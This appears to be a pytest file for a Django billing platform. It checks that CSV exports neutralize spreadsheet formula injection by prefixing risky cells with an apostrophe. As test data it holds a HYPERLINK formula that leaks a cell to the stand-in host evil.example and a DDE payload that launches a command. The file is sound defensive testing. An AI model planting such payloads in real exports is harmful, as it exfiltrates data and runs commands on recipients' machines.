"""Issue 17, item 10: no CSV the platform writes can carry a spreadsheet formula.

A customer named ``=HYPERLINK(...)`` reached the accountant's ``manifest.csv`` as a live
formula. Cells starting with ``= + - @``, tab or CR are written with a leading apostrophe.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.utils import timezone

from billing import services as billing_services
from billing.documents import services
from billing.models import Invoice
from security.csvfiles import neutralize_cell
from security.models import User
from tests.billing.documents.conftest import signing_key, signing_key_dir  # noqa: F401
from tests.factories import line

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Open invoice")'


@pytest.mark.django_db
def test_a_formula_in_a_customer_name_reaches_the_manifest_as_text(
    make_open_invoice: Callable[..., Invoice], clerk: User, accountant: User
) -> None:
    customer = billing_services.create_customer(
        by=clerk,
        name=FORMULA,
        kind="company",
        email="evil@evil.example",
        address_line1="Storgatan 1",
        postal_code="111 22",
        city="Stockholm",
        country="SE",
        language="en",
        currency="SEK",
    )
    make_open_invoice(customer, [line("Consulting", "1", "100.00")])
    today = timezone.localdate()
    services.sign_period_documents(start=today, end=today, by=clerk)

    bundle = services.export_period(start=today, end=today, by=accountant)

    archive = zipfile.ZipFile(io.BytesIO(bundle.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [row["customer"] for row in rows] == ["'" + FORMULA]
    assert not any(
        value.startswith(("=", "+", "@")) for row in rows for value in row.values() if value
    )
    # The signed JSON manifest keeps the name exactly as it was given.
    assert FORMULA.encode() in archive.read("manifest.json").replace(b'\\"', b'"')


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+46", "+46"),
        ("Alice Konsult AB", "Alice Konsult AB"),
        (-1250, -1250),
    ],
)
def test_formula_cells_are_neutralized_and_numbers_kept(cell: object, written: object) -> None:
    assert neutralize_cell(cell) == written


def test_no_code_writes_csv_but_through_the_safe_writer() -> None:
    """Every CSV writer of the platform is security.csvfiles' (so a new export cannot forget)."""
    offenders = []
    for folder in ("audit", "billing", "config", "db", "payments", "security"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "security" / "csvfiles.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in {"writer", "DictWriter"}
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "CSV written without security.csvfiles: " + ", ".join(offenders)
